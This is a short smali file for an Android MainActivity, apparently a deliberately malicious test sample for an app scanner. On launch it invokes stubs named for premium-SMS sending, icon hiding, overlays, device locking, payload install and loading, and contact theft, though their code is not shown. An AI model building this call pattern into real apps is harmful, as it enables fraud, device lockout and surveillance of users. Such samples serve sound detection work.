.class public Lcom/appwarden/screen/bad/MainActivity;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .locals 0
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-static {p0}, Lcom/appwarden/screen/bad/Payload;->sendPremium(Landroid/content/Context;)V
    invoke-static {p0}, Lcom/appwarden/screen/bad/Payload;->hideIcon(Landroid/content/Context;)V
    invoke-static {p0}, Lcom/appwarden/screen/bad/Payload;->overlay(Landroid/content/Context;)V
    invoke-static {p0}, Lcom/appwarden/screen/bad/Payload;->lock(Landroid/content/Context;)V
    invoke-static {p0}, Lcom/appwarden/screen/bad/Payload;->install(Landroid/content/Context;)V
    invoke-static {p0}, Lcom/appwarden/screen/bad/Payload;->load(Landroid/content/Context;)V
    invoke-static {}, Lcom/appwarden/screen/bad/Payload;->texts()V
    invoke-static {p0}, Lcom/appwarden/screen/bad/Spy;->contacts(Landroid/content/Context;)V
    return-void
.end method
